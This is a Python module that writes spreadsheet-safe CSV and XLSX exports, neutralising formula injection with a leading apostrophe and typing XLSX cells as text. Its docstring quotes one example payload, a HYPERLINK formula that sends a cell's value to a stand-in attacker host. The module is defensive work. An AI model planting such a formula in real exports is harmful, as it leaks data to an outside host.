"""CSV and XLSX files made safe for spreadsheets: one way to write them for every export.

Spreadsheets run formulas, and names and job titles are typed by the public: a "name" such as
``=HYPERLINK("http://evil.example/?"&A1, "Click")`` would run in the organiser's Excel. In CSV every
text cell that starts with ``= + - @`` (or a tab or carriage return) gets a leading apostrophe, as
OWASP advises; a phone number "+212 …" then shows as "'+212 …", the price of safety. XLSX cells are
typed: text is stored as text, never as a formula, so it needs no apostrophe and keeps its value.
Times are aware datetimes, written in UTC (ISO 8601 in CSV, real dates in XLSX).
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Mapping, Sequence
from datetime import datetime

from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
from openpyxl.styles import Font
from openpyxl.utils import get_column_letter

Value = str | int | datetime | None

_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_ISO_UTC = "%Y-%m-%dT%H:%M:%SZ"
_XLSX_DATETIME_FORMAT = 'yyyy-mm-dd"T"hh:mm:ss"Z"'


def neutralise_formula(text: str) -> str:
    """A text cell that a spreadsheet will show, not run."""
    return f"'{text}" if text.startswith(_FORMULA_STARTS) else text


def csv_cell(value: Value) -> str | int:
    if value is None:
        return ""
    if isinstance(value, datetime):
        return value.strftime(_ISO_UTC)
    if isinstance(value, int):
        return value
    return neutralise_formula(value)


def xlsx_cell(sheet, value: Value) -> WriteOnlyCell:
    if isinstance(value, datetime):
        cell = WriteOnlyCell(sheet, value=value.replace(tzinfo=None, microsecond=0))  # no time zones: UTC
        cell.number_format = _XLSX_DATETIME_FORMAT
        return cell
    if isinstance(value, str):
        # Control characters are not allowed in XML; text is typed as text (never a formula).
        cell = WriteOnlyCell(sheet, value=ILLEGAL_CHARACTERS_RE.sub("", value))
        cell.data_type = "s"
        return cell
    return WriteOnlyCell(sheet, value=value)


def csv_file(columns: Sequence[str], rows: Iterable[Sequence[Value]]) -> bytes:
    """UTF-8 with a byte-order mark: without it Excel reads accents, Cyrillic and Arabic as mojibake."""
    buffer = io.StringIO(newline="")
    writer = csv.writer(buffer, lineterminator="\r\n")
    writer.writerow(columns)
    writer.writerows([csv_cell(value) for value in row] for row in rows)
    return buffer.getvalue().encode("utf-8-sig")


def xlsx_file(
    columns: Sequence[str],
    rows: Iterable[Sequence[Value]],
    *,
    title: str,
    widths: Mapping[str, int] | None = None,
    default_width: int = 14,
) -> bytes:
    """One sheet, a bold frozen header row, filters on; cells typed by ``xlsx_cell``."""
    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet(title=title[:31])  # Excel's limit
    sheet.freeze_panes = "A2"
    for index, name in enumerate(columns, start=1):
        sheet.column_dimensions[get_column_letter(index)].width = (widths or {}).get(name, default_width)
    header = []
    for name in columns:
        cell = WriteOnlyCell(sheet, value=name)
        cell.font = Font(bold=True)
        header.append(cell)
    sheet.append(header)
    count = 0
    for row in rows:
        sheet.append([xlsx_cell(sheet, value) for value in row])
        count += 1
    sheet.auto_filter.ref = f"A1:{get_column_letter(len(columns))}{count + 1}"
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()
